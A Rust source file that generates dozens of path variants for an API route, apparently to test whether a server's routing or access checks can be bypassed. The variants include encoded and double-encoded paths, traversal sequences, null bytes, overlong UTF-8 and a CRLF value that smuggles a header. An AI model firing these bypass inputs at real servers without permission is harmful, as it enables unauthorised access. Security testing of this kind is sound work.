//! Alternative spellings of a call's path that some part of a server might accept.

/// Spellings of `/api/{call}`; only a selection of those with one encoded letter, unless all are requested.
pub fn spellings(call: &str, all: bool, random: &mut fastrand::Rng) -> Vec<String> {
    let encoded = |text: &str| text.bytes().map(|byte| format!("%{byte:02X}")).collect::<String>();
    let lower = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    let (group, name) = call.split_once('/').expect("a group and a name");
    let mut paths = vec![
        format!("/api/{}", encoded(call)),
        format!("/api/{}/{}", encoded(group), encoded(name)),
        format!("/api/{}/{}", lower(group), lower(name)),
        format!("/{}/{call}", encoded("api")),
        format!("{}{call}", encoded("/api/")),
        format!("/api/{group}%2F{name}"),
        format!("/api/{group}%2f{name}"),
        format!("/api%2F{call}"),
        format!("//api/{call}"),
        format!("/api//{call}"),
        format!("/api/{group}//{name}"),
        format!("///api///{group}///{name}"),
        format!("/./api/./{group}/./{name}"),
        format!("/api/../api/{call}"),
        format!("/api/User/../{call}"),
        format!("/api/User/Login/../../{call}"),
        format!("/api/%2e%2e/api/{call}"),
        format!("/api/User/%2e%2e/{call}"),
        format!("/api/User/..%2f{call}"),
        format!("/locales/../api/{call}"),
        format!("/assets/%2e%2e/api/{call}"),
        format!("/api/{call}/"),
        format!("/api/{call}/."),
        format!("/api/{call}/.."),
        format!("/api/{call}//"),
        format!("/api/{call};"),
        format!("/api/{call};a=b"),
        format!("/api/{group};a=b/{name}"),
        format!("/api;a=b/{call}"),
        format!("/api/{call}%00"),
        format!("/api/%00{call}"),
        format!("/api/{group}%00/{name}"),
        format!("/api/{call}%20"),
        format!("/api/{call}%0a"),
        format!("/api/{call}%0d%0aToken:%20x"),
        format!("/api/{call}?"),
        format!("/api/{call}?x=User/Login"),
        format!("/api/{call}#User/Login"),
        format!("/api/{call}.json"),
        format!("/api/{group}\\{name}"),
        format!("/api/{group}%5C{name}"),
        format!("/api\\{call}"),
        format!("/api/{}", call.to_lowercase()),
        format!("/api/{}", call.to_uppercase()),
        format!("/API/{call}"),
        format!("/Api/{call}"),
        format!("http://shop.example/api/{call}"),
        format!("http://shop.example/%61pi/{call}"),
        format!("http://shop.example//api//{call}"),
        format!("/api/{}", encoded(&encoded(call))),
        format!("/api/{}", call.replacen('e', "%2565", 1)),
        format!("/%2561pi/{call}"),
        format!("/api/{}", call.replacen('e', "%u0065", 1)),
        format!("/api/{}", call.replacen('e', "%c1%a5", 1)),
        format!("/api/{}", call.replacen('t', "\u{ff54}", 1)),
        format!("/api/{group}%252F{name}"),
        format!("/api/{group}/%E2%80%8B{name}"),
        format!("/{call}"),
        format!("/api/api/{call}"),
        format!("/api/openapi.json/../{call}"),
        format!("/api/docs/../{call}"),
    ];
    let whole = format!("/api/{call}");
    let letters: Vec<usize> = (1..whole.len()).filter(|at| whole.as_bytes()[*at] != b'/').collect();
    let chosen: Vec<usize> =
        if all { letters } else { (0..3).map(|_| letters[random.usize(..letters.len())]).collect() };
    for at in chosen {
        let byte = whole.as_bytes()[at];
        for code in [format!("%{byte:02x}"), format!("%{byte:02X}")] {
            paths.push(format!("{}{code}{}", &whole[..at], &whole[at + 1..]));
        }
    }
    paths
}
